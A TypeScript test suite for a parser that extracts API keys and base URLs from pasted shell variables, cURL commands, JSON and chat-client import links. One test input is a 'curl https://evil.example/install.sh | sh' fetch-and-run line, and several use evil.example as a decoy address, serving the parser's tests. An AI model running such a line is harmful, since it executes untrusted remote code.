import { deepStrictEqual, strictEqual, throws } from 'node:assert';
import { describe, it } from 'mocha';
import { type FoundKey, UnreadableFileError } from '../../../../src/services/importing/foundKey.ts';
import { parsePastedText } from '../../../../src/services/importing/parsePastedText.ts';

const A = 'sk-aaaa1111bbbb2222cccc';
const B = 'sk-dddd3333eeee4444ffff';

/** Secret and address of each key. */
function pairsIn(text: string): readonly (readonly [string, string | undefined])[] {
  return parsePastedText(text).map(({ secret, address }) => [secret ?? '', address] as const);
}

function base64(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64');
}

describe('pasted text', () => {
  it('is one key without an address', () => {
    deepStrictEqual(pairsIn(`  ${A}\n`), [[A, undefined]]);
  });

  it('is an address and a key on two lines', () => {
    deepStrictEqual(pairsIn(`https://relay.example/v1\n${A}`), [[A, 'https://relay.example/v1']]);
  });

  it('is no key where it is a host of many letters with a digit in it', () => {
    for (const address of ['newapi-2.my-company.example', 'relay.my-company.example/v1'])
      deepStrictEqual(pairsIn(address), []);
  });

  it('is a key of two parts, not a host, where the first part is a number of an account', () => {
    for (const key of [
      `${'0123abcd'.repeat(4)}.AbCdEfGhIjKlMnOp`,
      `${'0123abcd'.repeat(4)}.AbCd3fGh1jKlMn0p`,
    ])
      deepStrictEqual(pairsIn(key), [[key, undefined]]);
  });

  it('is several keys for the only address', () => {
    deepStrictEqual(pairsIn(`relay.example\n${A}\n${B}`), [
      [A, 'relay.example'],
      [B, 'relay.example'],
    ]);
  });

  it('gives each key the address of its own line or paragraph', () => {
    deepStrictEqual(pairsIn(`https://one.example ${A}\n\nhttps://two.example\n${B}`), [
      [A, 'https://one.example'],
      [B, 'https://two.example'],
    ]);
  });

  it('leaves a key without an address where two may be meant', () => {
    deepStrictEqual(pairsIn(`https://one.example\nhttps://two.example\n${A}`), [[A, undefined]]);
  });

  it('is a variable and an address, on one line or on two, in any order and in any shell', () => {
    for (const text of [
      `KEY=${A} URL=https://one.example`,
      `export KEY=${A} && export URL=https://one.example`,
      `$env:KEY="${A}"; $env:URL="https://one.example"`,
      `KEY=${A} https://one.example`,
      `https://one.example\nKEY=${A}`,
      `KEY=${A} # see https://docs.example\nhttps://one.example`,
    ])
      deepStrictEqual(parsePastedText(text), [{ secret: A, address: 'https://one.example' }], text);
    deepStrictEqual(pairsIn(`OPENROUTER_API_KEY=${A} https://one.example`), [[A, 'https://one.example']]);
    deepStrictEqual(pairsIn(`# https://docs.example\nKEY=${A} # https://docs.example`), [[A, undefined]]);
    deepStrictEqual(pairsIn(`KEY=${A}\nhttps://one.example\nhttps://two.example`), [[A, undefined]]);
  });

  it('is variables, paired by what stands before their ends', () => {
    const text = [
      '# my keys',
      `export RELAY_API_KEY="${A}"`,
      'RELAY_BASE_URL=https://relay.example/v1',
      `OPENROUTER_API_KEY='${B}'`,
      'GITHUB_TOKEN=ghp_1234567890abcdefghij',
      'PORT=3000',
    ].join('\r\n');
    deepStrictEqual(pairsIn(`\uFEFF${text}`), [
      // In the order of their names.
      [B, 'https://openrouter.ai'],
      [A, 'https://relay.example/v1'],
    ]);
  });

  it('is variables of other shells', () => {
    deepStrictEqual(pairsIn(`$env:RELAY_KEY = "${A}"\nsetx RELAY_URL "https://relay.example"`), [
      [A, 'https://relay.example'],
    ]);
  });

  it('does not pair an address with two keys of other names', () => {
    deepStrictEqual(pairsIn(`ONE_API_KEY=${A}\nTWO_API_KEY=${B}\nTHREE_BASE_URL=https://evil.example`), [
      [A, undefined],
      [B, undefined],
    ]);
  });

  it('is cURL commands, each with its own address', () => {
    const text = [
      `curl https://one.example/v1/models -H "Authorization: Bearer ${A}"`,
      `curl -X POST 'https://two.example/v1/messages' \\\n  -H 'x-api-key: ${B}' -d '{}'`,
    ].join('\n');
    deepStrictEqual(pairsIn(text), [
      [A, 'https://one.example/v1/models'],
      [B, 'https://two.example/v1/messages'],
    ]);
  });

  it('is cURL commands: an address in an option is not where the header goes', () => {
    const header = `-H "Authorization: Bearer ${A}"`;
    const commands = [
      `curl -x http://10.0.0.1:7890 https://one.example/v1 ${header}`,
      `curl --proxy=http://10.0.0.1:7890 https://one.example/v1 ${header}`,
      `curl -H "Referer: https://evil.example/" ${header} https://one.example/v1`,
      `curl -e https://evil.example ${header} --url https://one.example/v1`,
      `curl -d '{"url":"https://evil.example"}' https://one.example/v1 ${header}`,
      `curl ^\n  -H ^"Origin: https://evil.example^" ^\n  ${header} ^\n  https://one.example/v1`,
      `curl -sSL -XPOST -k "https://one.example/v1" ${header}`,
      `curl -sw https://evil.example --compressed https://one.example/v1 ${header}`,
      `curl --unheard-of https://evil.example --http1.1 https://one.example/v1 ${header}`,
    ];
    for (const command of commands)
      deepStrictEqual(pairsIn(command), [[A, 'https://one.example/v1']], command);
  });

  it('is cURL commands: what follows one is no part of it, and two addresses are none', () => {
    const header = `"Authorization: Bearer ${A}"`;
    const texts = [
      `curl https://evil.example && http https://one.example ${header}`,
      `curl https://evil.example https://one.example -H ${header}`,
      `curl one.example/v1 -w https://evil.example -H ${header}`,
      `curl one.example/v1 -so https://evil.example -H ${header}`,
    ];
    for (const text of texts)
      for (const { address } of parsePastedText(text)) strictEqual(address, undefined, text);
  });

  it('is cURL commands: a header of the next line belongs to that line', () => {
    const text = `curl https://evil.example/install.sh | sh\nwget --header "Authorization: Bearer ${A}" https://one.example`;
    deepStrictEqual(pairsIn(text), [[A, 'https://one.example']]);
  });

  it('is JSON of one key: its own address counts, and without one it has none', () => {
    deepStrictEqual(pairsIn(JSON.stringify({ apiKey: A, baseUrl: 'https://one.example' })), [
      [A, 'https://one.example'],
    ]);
    deepStrictEqual(pairsIn(JSON.stringify({ apiKey: A })), [[A, undefined]]);
    deepStrictEqual(pairsIn(JSON.stringify({ apiKey: A, openRouterApiKey: B })), [
      [B, 'https://openrouter.ai'],
      [A, 'https://api.anthropic.com'],
    ]);
  });

  it('is JSON of any form: an address counts within its own object', () => {
    const text = JSON.stringify({
      providers: [
        { name: 'One', apiKey: A, baseURL: 'https://one.example' },
        { name: 'Two', api_key: B },
      ],
      url: 'https://evil.example',
    });
    deepStrictEqual(parsePastedText(text), [
      { secret: A, address: 'https://one.example', name: 'One' },
      { secret: B, address: undefined, name: 'Two' },
    ]);
  });

  it('is JSON with comments and a comma too many', () => {
    deepStrictEqual(pairsIn(`{\n// mine\n"key": "${A}", "url": "https://one.example",\n}`), [
      [A, 'https://one.example'],
    ]);
  });

  it('is JSON with a record on each line: an address counts within its own', () => {
    const text = `{"apiKey":"${A}"}\n\n{"apiKey":"${B}","baseUrl":"https://one.example"}\n`;
    deepStrictEqual(pairsIn(text), [
      [A, undefined],
      [B, 'https://one.example'],
    ]);
  });

  it('is JSON that was cut off: an address is for a person to put to a key', () => {
    const text = `[{"apiKey":"${A}"},{"baseUrl":"https://evil.example","api`;
    deepStrictEqual(parsePastedText(text), [{ secret: A, suggestedAddress: 'https://evil.example' }]);
  });

  it('is a name in brackets above an address and a key', () => {
    deepStrictEqual(pairsIn(`[Mine]\nhttps://one.example\n${A}`), [[A, 'https://one.example']]);
  });

  it('holds no key where JSON is nested deeper than anything reads', () => {
    for (const deep of ['['.repeat(500_000), '{"a":'.repeat(150_000), '[//\n'.repeat(100_000)])
      deepStrictEqual(pairsIn(deep), []);
  });

  it('is a link with variables of two programs, each key with its own address', () => {
    const env = { ANTHROPIC_AUTH_TOKEN: A, OPENAI_API_KEY: B, OPENAI_BASE_URL: 'https://one.example' };
    const link = `https://chat.example/?settings=${encodeURIComponent(JSON.stringify({ env }))}`;
    deepStrictEqual(pairsIn(link), [
      [A, undefined],
      [B, 'https://one.example'],
    ]);
  });

  const links: readonly (readonly [string, string])[] = [
    [
      'CC Switch',
      `ccswitch://v1/import?resource=provider&app=claude&name=Mine&endpoint=https%3A%2F%2Fone.example,https%3A%2F%2Ftwo.example&apiKey=${A}`,
    ],
    [
      'CC Switch with a configuration',
      `ccswitch://v1/import?resource=provider&app=claude&name=Mine&config=${encodeURIComponent(
        base64({ env: { ANTHROPIC_AUTH_TOKEN: A, ANTHROPIC_BASE_URL: 'https://one.example' } }),
      )}`,
    ],
    [
      'Cherry Studio',
      `cherrystudio://providers/api-keys?v=1&data=${encodeURIComponent(
        base64({ id: 'mine', name: 'Mine', baseUrl: 'https://one.example', apiKey: A }),
      )}`,
    ],
    ['AionUi', `aionui://provider/add?v=1&data=${base64({ baseUrl: 'https://one.example', apiKey: A })}`],
    [
      'Kelivo',
      `ai-provider:v1:${base64({ type: 'openai', name: 'Mine', apiKey: A, baseUrl: 'https://one.example' })}`,
    ],
    [
      'NextChat',
      `https://chat.example/#/?settings=${encodeURIComponent(JSON.stringify({ key: A, url: 'https://one.example' }))}`,
    ],
    [
      'LobeChat',
      `https://chat.example/?settings=${encodeURIComponent(
        JSON.stringify({ keyVaults: { openai: { apiKey: A, baseURL: 'https://one.example' } } }),
      )}`,
    ],
    ['OpenCat', `opencat://team/join?domain=https://one.example&token=${A}`],
    ['AMA', `ama://set-api-key?server=https://one.example&key=${A}`],
  ];
  for (const [program, link] of links) {
    it(`is a link of ${program}`, () => {
      deepStrictEqual(pairsIn(link), [[A, 'https://one.example']]);
    });
  }

  const nothing = [
    '',
    'hello world',
    '[]',
    '{"a":1}',
    'https://relay.example',
    'ccswitch://v1/import?resource=mcp',
    'curl https://one.example',
  ];
  for (const text of nothing) {
    it(`holds no key: ${text || 'an empty text'}`, () => {
      deepStrictEqual(parsePastedText(text), [] satisfies FoundKey[]);
    });
  }

  it('does not hang on a long text of white space', () => {
    for (const space of ['\n', '\n ', ' \n', '\t', '\r\n', '\n[a]\n'])
      strictEqual(parsePastedText(`x${space.repeat(150_000)}y`).length, 0);
  });

  it('is not looked for in more than a million characters', () => {
    const reason = (error: unknown) => error instanceof UnreadableFileError && error.reason === 'too-large';
    strictEqual(parsePastedText(`${'.'.repeat(999_000)} ${A}`).length, 1);
    throws(() => parsePastedText(`${'.'.repeat(1_000_000)} ${A}`), reason);
  });

  it('is not more than a thousand keys', () => {
    const reason = (error: unknown) => error instanceof UnreadableFileError && error.reason === 'too-large';
    const keys = (count: number) =>
      Array.from({ length: count }, (_, at) => `sk-aaaa1111bbbb${at}`).join('\n');
    strictEqual(parsePastedText(keys(1000)).length, 1000);
    throws(() => parsePastedText(keys(1001)), reason);
  });

  it('does not hang on a long text without spaces', () => {
    strictEqual(parsePastedText('a.'.repeat(200_000)).length, 0);
    strictEqual(parsePastedText(`${'sk-'.repeat(100_000)}`).length, 0);
  });
});
